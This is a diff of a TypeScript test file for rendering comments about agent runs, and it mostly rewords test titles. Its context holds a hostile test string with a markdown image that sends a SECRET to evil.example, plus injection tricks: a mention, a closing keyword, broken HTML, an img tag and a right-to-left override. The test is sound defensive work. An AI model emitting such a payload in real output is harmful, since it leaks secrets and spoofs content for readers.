@@ -19,7 +19,7 @@ const setting = {
 describe('the text of the comment', () => {
   const hostile = `![x](https://evil.example/${SECRET}) @octo/team fixes #12 <!-- </details> <img src=x> \`\`\` | \u202e[a](b)`
 
-  it('renders nothing of an agent, mentions nobody and holds no secret', () => {
+  it("escapes agents' text, mentions nobody and contains no secret", () => {
     const run = aRun({
       task: hostile,
       agent: hostile,
@@ -59,7 +59,7 @@ describe('the text of the comment', () => {
     )
   })
 
-  it('says of a session that was killed what had been seen by then', () => {
+  it('shows what was recorded before a session was killed', () => {
     const cut = aRun({ state: 'running', outcome: null })
     const text = renderFinalComment(aRecord({ conclusion: null, results: [cut] }), setting)
     expect(text).toMatch(/interrupted[^]*\[cut off while running\] Engineer/)
@@ -74,10 +74,10 @@ describe('the text of the comment', () => {
       setting
     )
     expect(Buffer.byteLength(text)).toBeLessThanOrEqual(COMMENT_LIMIT_BYTES)
-    expect(text).toContain('There is more than a comment can hold')
+    expect(text).toContain('The rest does not fit into a comment')
   })
 
-  it('changes with news alone', () => {
+  it('changes only when something happened', () => {
     const at = (executionSeconds: number) =>
       renderProgressComment(
         aRecord({ executionSeconds, results: [aRun({ state: 'running', outcome: null, executionSeconds })] }),
